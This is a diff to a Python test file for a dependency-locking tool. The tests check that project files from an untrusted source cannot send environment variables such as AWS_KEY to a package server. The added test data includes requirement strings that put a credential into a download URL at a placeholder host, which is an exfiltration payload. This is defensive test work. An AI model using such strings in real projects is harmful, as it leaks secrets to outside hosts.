@@ -70,7 +70,7 @@ def test_a_list_of_somebody_else_sends_no_variable(stranger: Project, lines: str
     if nested:
         stranger.write("requirements.txt", "-r inner.txt\n")
 
-    run = stranger.lock("requirements.txt", "-v")
+    run = stranger.lock("requirements.txt")
 
     assert run.code == 2, run.err
     assert stranger.server.log == []
@@ -96,7 +96,7 @@ def test_a_list_of_somebody_else_sends_no_variable(stranger: Project, lines: str
 def test_settings_of_somebody_else_send_no_variable(stranger: Project, name: str, text: str) -> None:
     stranger.write(name, spell(stranger, text))
 
-    run = stranger.lock(name, "-v")
+    run = stranger.lock(name)
 
     assert (run.code, find_canaries(stranger), stranger.server.log) == (2, [], []), run.err
     assert CANARY not in run.out + run.err
@@ -116,10 +116,44 @@ def test_an_app_of_somebody_else_sends_no_variable(stranger: Project, item: str)
     text = "import os\nimport fal\n\n\nclass Demo(fal.App):\n    requirements = [ITEM]\n".replace("ITEM", item)
     stranger.write("app.py", spell(stranger, text))
 
-    run = stranger.lock("app.py", "-v")
+    run = stranger.lock("app.py")
 
     assert (run.code, stranger.server.log) == (2, []), run.err
     assert CANARY not in run.out + run.err
+
+
+APP = "import os\nimport fal\n\n\nclass Demo(fal.App):\n    requirements = ['-i', 'INDEX', ITEM]\n"
+CHANGED = [
+    "os.environ['AWS_KEY'] + '==1.0'",
+    "'a @ http://HOST/files/' + os.environ['AWS_KEY'].strip() + '/a-1.0-py3-none-any.whl'",
+    "f\"a @ http://HOST/files/{os.environ['AWS_KEY'][1:]}/a-1.0-py3-none-any.whl\"",
+    "'a @ http://HOST/files/' + ''.join(c for c in os.environ['AWS_KEY']) + '/a-1.0-py3-none-any.whl'",
+    "'a' if os.environ['AWS_KEY'] > 'c' else 'b'",
+]
+
+
+@pytest.mark.parametrize("item", CHANGED)
+def test_an_app_sees_no_variable_that_only_its_own_settings_name(stranger: Project, item: str) -> None:
+    """With its value, an app could write it into any URL in a form of its own."""
+    stranger.write("app.py", spell(stranger, APP.replace("ITEM", item)))
+    stranger.write("pyproject.toml", '[tool.pinfold]\nenvironment = ["AWS_KEY"]\n')
+
+    run = stranger.lock("app.py")
+
+    assert (run.code, stranger.server.log) == (2, []), run.err
+    assert "[tool.pinfold] environment: `AWS_KEY` may not be given to `app.py`" in run.err
+    assert CANARY not in run.out + run.err
+
+
+def test_an_app_sees_a_variable_that_is_allowed(stranger: Project) -> None:
+    stranger.monkeypatch.setenv("A_VERSION", "1.0")
+    stranger.write("app.py", APP.replace("ITEM", "'a==' + os.environ['A_VERSION']"))
+    stranger.write("pyproject.toml", '[tool.pinfold]\nenvironment = ["A_VERSION"]\n')
+
+    assert stranger.lock("app.py").code == 2
+    assert stranger.lock("app.py", "--allow-variable", "A_VERSION=apps").code == 0
+    assert stranger.lock("allow", "app.py").out.startswith("app.py: `A_VERSION` may be sent to `apps` (")
+    assert stranger.lock("app.py").code == 0
 
 
 def test_the_login_of_a_family_goes_to_no_host_of_the_project(stranger: Project) -> None:
